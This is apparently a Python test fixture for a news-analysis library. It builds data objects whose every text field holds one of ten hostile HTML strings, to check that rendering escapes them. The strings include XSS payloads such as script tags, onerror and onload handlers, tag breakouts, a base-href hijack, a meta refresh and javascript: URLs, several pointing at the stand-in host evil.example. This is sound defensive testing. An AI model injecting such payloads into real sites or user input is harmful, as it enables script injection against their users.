"""Articles that try to break out of whatever shows them, and findings that carry their words into every field."""

from datetime import date

from geopolnews.model import (
    Act,
    Actor,
    ActorKind,
    Article,
    Findings,
    Meeting,
    MeetingKind,
    MeetingStatus,
    Note,
    NoteKind,
    Organisation,
    OrganisationKind,
    Part,
    PartKind,
    Period,
    Place,
    PlaceKind,
    Position,
    Precision,
    Reference,
    ReferenceKind,
    Role,
    Span,
    Stance,
    Statement,
    StatementKind,
)

HOSTILE = {
    "script": "<script>hostile = 1; alert(1)</script> said the minister. <SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "attribute": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(2)' ` style=background:url(//evil.example/b)",
    "closing": "</p></div></article></main></body></html><script>window.hostile = 1</script><!--",
    "style": "</style><script>window.hostile = 1</script><style>*{background:url(https://evil.example/t)}</style>",
    "title": "</title><script>window.hostile = 1</script><base href=https://evil.example/>",
    "frame": "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe><object data=//evil.example/o></object>",
    "vector": "<svg onload=alert(1)><use href='//evil.example/x.svg#y'/></svg><math><mtext></mtext></math> ]]>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'><link rel=stylesheet href=//evil.example>",
    "encoded": "&lt;script&gt; &#60;script&#62; &#x3c;img src=x&#x3e; &amp;amp; &quot; %3Cb%3E \\u003cscript\\u003e",
    "characters": (
        "\x00<\x00script>\ufeff\u202eevil.example\u202c\u2066 \ud83d\r\n\r\t\x0b\x0c\x1b[2J\x85\u2028\u2029\ufdd0"
        "\U0010ffff a\u0301\u200b\u200d 总统说 قال الرئيس {{7*7}} ${alert(1)} <!DOCTYPE html> javascript:alert(1)"
    ),
}
"""Ten texts, by what they try."""


def make_hostile_findings(text):
    """Return findings of which every field that can hold words holds the hostile ones."""
    whole = Span(start=0, end=len(text))
    half, cross = Span(start=0, end=len(text) // 2), Span(start=len(text) // 3, end=len(text) - 3)
    sure = {"confidence": 0.4, "because": (text,)}
    body = Organisation(
        name=text, kind=OrganisationKind.PARTY, acronym=text, aliases=(f"{text} 2",), mentions=(cross,), **sure
    )
    person = Actor(
        name=text,
        kind=ActorKind.ANONYMOUS,
        aliases=(f"{text} 3",),
        roles=(Role(title=text, organisation=body.id, country_name=text, confidence=0.3),),
        mentions=(half,),
        references=(Reference(start=3, end=9, kind=ReferenceKind.PRONOUN),),
        reason=text,
        **sure,
    )
    place = Place(name=text, kind=PlaceKind.SITE, aliases=(f"{text} 4",), mentions=(whole,), **sure)
    day = date(2025, 5, 14)
    period = Period(start=day, end=day, text=text, precision=Precision.DAY, span=whole)
    meetings = tuple(
        Meeting(
            kind=MeetingKind.OTHER,
            status=status,
            participants=(person.id, body.id),
            host=body.id,
            place=place.id,
            date=period,
            topic=text,
            mentions=(Span(start=number, end=number + 5),),
            **sure,
        )
        for number, status in enumerate(MeetingStatus)
    )
    statements = tuple(
        Statement(
            speakers=speakers,
            source=half,
            cue=Span(start=number + 1, end=number + 4),
            content=(half, Span(start=len(text) // 2 + 1, end=len(text))),
            text=f"{text[: len(text) // 2]} {text[len(text) // 2 + 1 :]}",
            kind=StatementKind.MIXED,
            act=Act.DEMAND,
            addressee=body.id,
            medium=text,
            date=period,
            meeting=meetings[0].id,
            negated=True,
            unresolved=None if speakers else text,
            **sure,
        )
        for number, speakers in enumerate(((person.id,), (person.id, body.id), ()))
    )
    stances = tuple(
        Stance(
            holder=holder,
            target=cross,
            target_entity=place.id,
            position=position,
            evidence=Span(start=2, end=len(text) - 1),
            statement=statements[0].id,
            **sure,
        )
        for holder in (person.id, body.id)
        for position in Position
    )
    return Findings(
        article=Article(
            text=text,
            title=text,
            url=f"javascript:alert(1)//{text}",
            publisher=text,
            source=text,
            published=day,
            parts=(
                Part(start=0, end=7, kind=PartKind.HEADLINE),
                Part(start=7, end=11, kind=PartKind.DATELINE),
                Part(start=12, end=len(text) - 2, kind=PartKind.PARAGRAPH),
            ),
        ),
        actors=(person,),
        organisations=(body,),
        places=(place,),
        meetings=meetings,
        statements=statements,
        stances=stances,
        notes=(Note(kind=NoteKind.OTHER, message=text, span=cross, about=(statements[0].id, place.id)),),
    )
